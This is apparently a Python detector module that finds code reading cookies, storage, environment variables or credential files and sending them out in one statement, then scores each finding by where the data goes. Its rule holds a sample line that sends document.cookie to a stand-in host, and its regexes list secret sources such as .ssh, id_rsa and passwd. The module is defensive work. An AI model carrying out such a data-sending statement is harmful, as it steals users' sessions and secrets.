"""Find code that reads what is private and sends it out in one statement."""

import re
from collections.abc import Iterator

from adapters.detectors.exfiltration.address import is_collector
from adapters.detectors.exfiltration.evidence import (
    ChannelRecogniser,
    channel_finding,
    channel_rule,
)
from adapters.detectors.linear_time import Pattern, Subject
from domain.detection.finding import Finding

_RULE = channel_rule(
    "code-sends-private-data",
    "CODE",
    "Code that sends private data",
    "fetch, XMLHttpRequest, sendBeacon, an image source, requests, urllib or PHP with "
    "cookies, storage, environment or files",
    source="https://owasp.org/www-community/attacks/xss/",
    examples=("fetch('https://example.org?c='+document.cookie)",),
    near_misses=(
        "fetch('/api/items', {credentials: 'include'})",
        "requests.post(url, json=payload)",
    ),
)
_SINK = (
    r"fetch\s?\(|navigator\.sendBeacon\s?\(|\.open\s?\(\s?[\"'](?:GET|POST|PUT)|"
    r"new\s+Image\b|\.src\s?=|new\s+WebSocket\s?\(|axios(?:\.\w+)?\s?\(|\$\.(?:get|post|"
    r"ajax|getJSON)\s?\(|"
    r"(?:window\.|document\.)?location(?:\.href)?\s?=|location\.(?:replace|assign)\s?\(|"
    r"importScripts\s?\(|"
    r"(?:requests|httpx|session|client|aiohttp|urllib3?)\.(?:get|post|put|patch|request|"
    r"urlopen|request\.urlopen)\s?\(|urlopen\s?\(|"
    r"http\.(?:Get|Post|PostForm|request|get|post)\s?\(|https\.(?:get|request)\s?\(|"
    r"file_get_contents\s?\(\s?[\"']https?|curl_setopt\s?\(|Net::HTTP|HttpClient|"
    r"Invoke-RestMethod|"
    r"smtplib|sendmail\s?\(|\.send(?:all)?\s?\(|\.write\s?\("
)
_SOURCE = re.compile(
    r"document\.cookie|localStorage|sessionStorage|indexedDB|navigator\.clipboard|"
    r"document\.(?:body|documentElement)\.(?:inner|outer)(?:HTML|Text)|"
    r"document\.(?:forms|querySelector\([^)]*(?:pass|token|csrf)[^)]*\))|password\.value|"
    r"chrome\.cookies|"
    r"dict\(os\.environ\)|os\.environ(?:\.copy\(\)|\.items\(\))?\s*[),}]|os\.environ\s*$|"
    r"json\.dumps\((?:dict\()?os\.environ\)?|"
    r"JSON\.stringify\((?:process\.env|localStorage|sessionStorage|window)\)|process\.env\s*[),}]|"
    r"open\(\s*(?:os\.path\.expanduser\()?[rb]?[\"'](?:/etc/|~|[^\"']*(?:\.ssh|\.aws|\.env|"
    r"passwd|shadow|id_rsa|credential|secret|\.pem|\.netrc))|"
    r"read(?:File(?:Sync)?|_text|_bytes)?\([^)]*(?:\.ssh|\.aws|\.env\b|passwd|shadow|id_rsa|"
    r"credential|secret|\.pem)|"
    r"file_get_contents\(\s*[\"'](?:/etc/|~|[^\"']*(?:\.ssh|\.aws|\.env\b|passwd|id_rsa|\.pem))|"
    r"(?:Path\(|expanduser\()[^)]*(?:\.ssh|\.aws|\.env\b|id_rsa|"
    r"credential)|"
    r"\$_(?:COOKIE|SESSION|SERVER|ENV)\b(?!\s*\[)|getenv\(\)|System\.getenv\(\)|"
    r"getpass\.getpass\(|keyring\.get_password|pyperclip\.paste|ImageGrab|pynput|"
    r"(?i:conversation_history|chat_history|system_prompt|user_secrets?|messages\[)"
)
_OWN_ADDRESS = re.compile(r"^\s*[\"'`](?:/(?!/)|\./|\.\./|#)")
_ADDRESS = re.compile(r"(?i)(?:https?|wss?):\\?/\\?/([\w.-]+)")
_MAILED = re.compile(r"sendmail\s?\([^\n]{0,200}?[\w.+-]@([\w-]+(?:\.[\w-]+)+)")
_CONNECTED = re.compile(r"\b(?:create_connection|connect)\(\(\s?[\"']([\w.-]+)[\"']")
_STATEMENT_END = re.compile(r"\n(?![ \t])|\n(?=[ \t]*(?:def |class |return\b|import |from ))")
_REACH, _LEAD = 700, 80


class SendingCode(ChannelRecogniser):
    """Find statements that hold a way out and a private source together."""

    gates = (rf"{_SINK}",)
    rules = (_RULE,)

    def __init__(self) -> None:
        self._sink = Pattern(_SINK)

    def scan(self, subject: Subject) -> Iterator[Finding]:
        """Yield from the call to the end of its line or argument list."""
        done = 0
        for match in self._sink.finditer(subject):
            start, _ = match.span()
            if start < done:
                continue
            text = _STATEMENT_END.split(subject.text[start : start + _REACH], maxsplit=1)[0]
            source = _SOURCE.search(text)
            if source is None:
                continue
            before = subject.text[max(0, start - _LEAD) : start]
            hosts = [found[1] for found in _ADDRESS.finditer(text)]
            hosts += [found[1] for found in _MAILED.finditer(text)]
            hosts += [found[1] for found in _CONNECTED.finditer(before)]
            call = text.find("(")
            own = call >= 0 and _OWN_ADDRESS.match(text[call + 1 :]) is not None
            if hosts:
                score, reason = 0.9, "private data in a request to a foreign address"
            elif own:
                score, reason = 0.25, "private data in a request to the own server"
            else:
                score, reason = 0.45, "private data in a request to a variable address"
            if any(map(is_collector, hosts)):
                score = 0.97
            newline = text.find("\n", source.end())
            end = start + len((text if newline < 0 else text[:newline]).rstrip())
            done = end
            yield channel_finding(_RULE, start, end, score, reason)
